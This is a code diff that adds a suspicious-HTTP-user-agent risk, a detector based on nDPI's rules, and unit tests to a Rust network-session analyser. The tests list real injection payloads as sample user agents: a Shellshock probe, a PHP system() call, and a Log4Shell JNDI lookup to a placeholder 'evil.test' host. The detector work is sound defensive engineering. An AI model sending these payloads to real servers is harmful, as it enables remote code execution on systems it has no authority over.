@@ -15,6 +15,9 @@ use crate::{put_int, put_text};
 pub enum Risk {
     /// An HTTP Host, TLS or QUIC server name that is an address, not a name.
     HttpNumericIpHost,
+    /// HTTP without a user agent, or with one no browser or library sends
+    /// ([`suspicious_user_agent`]).
+    HttpSuspiciousUserAgent,
     /// The server's certificate was issued by itself (issuer equal to subject).
     TlsSelfsignedCertificate,
     /// The server chose SSL 3, TLS 1.0 or TLS 1.1.
@@ -50,6 +53,7 @@ impl Risk {
     pub fn name(self) -> &'static str {
         match self {
             Risk::HttpNumericIpHost => "http-numeric-ip-host",
+            Risk::HttpSuspiciousUserAgent => "http-suspicious-user-agent",
             Risk::TlsSelfsignedCertificate => "tls-selfsigned-certificate",
             Risk::TlsObsoleteVersion => "tls-obsolete-version",
             Risk::TlsWeakCipher => "tls-weak-cipher",
@@ -82,13 +86,15 @@ impl Risk {
             | Risk::TlsWeakCipher
             | Risk::TlsCertificateExpired
             | Risk::SmbInsecureVersion
-            | Risk::ClearTextCredentials => HIGH,
+            | Risk::ClearTextCredentials
+            | Risk::HttpSuspiciousUserAgent => HIGH,
             Risk::TlsInsecureCipher => 150,
         }
     }
 
-    const ALL: [Risk; 14] = [
+    const ALL: [Risk; 15] = [
         Risk::HttpNumericIpHost,
+        Risk::HttpSuspiciousUserAgent,
         Risk::TlsSelfsignedCertificate,
         Risk::TlsObsoleteVersion,
         Risk::TlsWeakCipher,
@@ -125,6 +131,26 @@ pub fn weak_cipher(name: &str) -> bool {
     name.starts_with("TLS_RSA_WITH_") && !insecure_cipher(name)
 }
 
+/// A user agent no browser or HTTP library sends, by nDPI's rules: empty; shorter
+/// than 4 characters or longer than 256; beginning with `test` or `<?`; holding `$`,
+/// `{` or `}` (shell and template injection, as in Shellshock's `() { :; };`), or a
+/// URL scheme other than `http` or `https` after its first character; or over 12
+/// letters and nothing else, a fifth or more of them capitals (random strings).
+pub fn suspicious_user_agent(ua: &str) -> bool {
+    let n = ua.chars().count();
+    let random = n > 12 && ua.chars().all(|c| c.is_ascii_alphabetic()) && {
+        let capitals = ua.chars().filter(char::is_ascii_uppercase).count();
+        capitals * 5 >= n
+    };
+    let odd_scheme = ua.find("://").is_some_and(|i| i > 0 && !matches!(ua.as_bytes()[i - 1], b'p' | b's'));
+    random
+        || odd_scheme
+        || !(4..=256).contains(&n)
+        || ua.starts_with("test")
+        || ua.starts_with("<?")
+        || ua.contains(['$', '{', '}'])
+}
+
 /// The risks only the finished row shows (those of one message were added as it
 /// was parsed: TLS's versions and ciphers, certificates, DNS sizes, logins), then the
 /// score of them all. Called as the row is written.
@@ -138,6 +164,15 @@ pub fn assess(rec: &mut SessionRecord) {
     }
     if rec.protocols.iter().any(|p| UNSAFE.contains(&p.as_str())) {
         add(rec, Risk::UnsafeProtocol);
+    }
+    if rec.protocols.iter().any(|p| p == "http") {
+        // A request without a user agent; not a session whose requests were never
+        // read (only answers seen), which says nothing of its client.
+        let agents = rec.extra.texts("http.user-agent");
+        let asked = !rec.extra.texts("http.method").is_empty();
+        if (asked && agents.is_empty()) || agents.iter().any(|ua| suspicious_user_agent(ua)) {
+            add(rec, Risk::HttpSuspiciousUserAgent);
+        }
     }
     // To a group or a whole network, no answer is expected.
     let to_many = rec.dst_ip.is_some_and(|a| match a.to_ip() {
@@ -162,6 +197,34 @@ mod tests {
 
     fn risks(rec: &SessionRecord) -> Vec<String> {
         rec.extra.texts("risk").to_vec()
+    }
+
+    #[test]
+    fn user_agents_browsers_send_or_not() {
+        for odd in [
+            "",
+            "Go",
+            "test-agent/1.0",
+            "() { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;",
+            "<?php system('id'); ?>",
+            "${jndi:ldap://evil.test/a}",
+            "gopher://x",
+            "vBKbaQgjyvRRbcgfvlsc",
+            &"A".repeat(257),
+        ] {
+            assert!(suspicious_user_agent(odd), "{odd}");
+        }
+        for fine in [
+            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+            "curl/8.5.0",
+            "Mozil",
+            "AspINet",
+            "Android",
+            "lowercaseletters",
+            "Mozilla/5.0 (compatible; bot; +https://example.com/bot)",
+        ] {
+            assert!(!suspicious_user_agent(fine), "{fine}");
+        }
     }
 
     #[test]
